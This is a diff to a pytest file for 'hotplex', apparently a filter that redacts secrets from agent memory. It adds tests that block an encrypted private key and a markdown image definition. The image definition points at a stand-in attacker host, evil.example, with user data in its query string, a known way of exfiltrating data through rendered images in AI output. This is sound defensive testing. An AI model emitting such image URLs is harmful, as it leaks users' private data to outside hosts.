@@ -11,7 +11,7 @@ import pytest
 from hotplex import HotplexError, Project
 from hotplex.manifest.model import Manifest
 from hotplex.sources import blocking
-from hotplex_testing import FAKE_SECRETS
+from hotplex_testing import ENCRYPTED_KEY, FAKE_SECRETS
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -118,6 +118,24 @@ def test_a_secret_split_across_lines_is_no_secret_and_a_key_block_goes_whole(pro
     )
     memory, findings = blocked(project, f"Keys:\n\n{key_block}\n\nafter\n")
     assert memory == "Keys:\n\n[blocked by hotplex: private-key]\n\nafter"
+
+
+def test_an_encrypted_key_is_blocked_to_its_end_line_across_its_blank_line(project) -> None:
+    """Headers, a blank line, the base64 body: every entry the key touches goes, nothing of it
+    reaches the artifact, and the blank line between stays a blank line."""
+    memory, findings = blocked(project, f"- note\n\n{ENCRYPTED_KEY}\n\n- after\n")
+    assert memory == (
+        "- note\n\n[blocked by hotplex: private-key]\n\n[blocked by hotplex: private-key]\n\n- after"
+    )
+    assert [(f.rule, f.line, f.column) for f in findings] == [("private-key", 3, 1)]
+
+
+def test_a_reference_image_is_contained_by_blocking_its_definition(project) -> None:
+    """The definition holds the URL the image is fetched from: without it the image is text."""
+    text = "- likes tea\n- ![x][r]\n\n[r]: https://evil.example/p.png?d=alice\n\n- uses vim\n"
+    memory, findings = blocked(project, text)
+    assert memory == "- likes tea\n- ![x][r]\n\n[blocked by hotplex: image-url-data]\n\n- uses vim"
+    assert [(f.rule, f.line, f.column) for f in findings] == [("image-url-data", 4, 6)]
 
 
 def test_lookalikes_of_special_tokens_are_blocked(project) -> None:
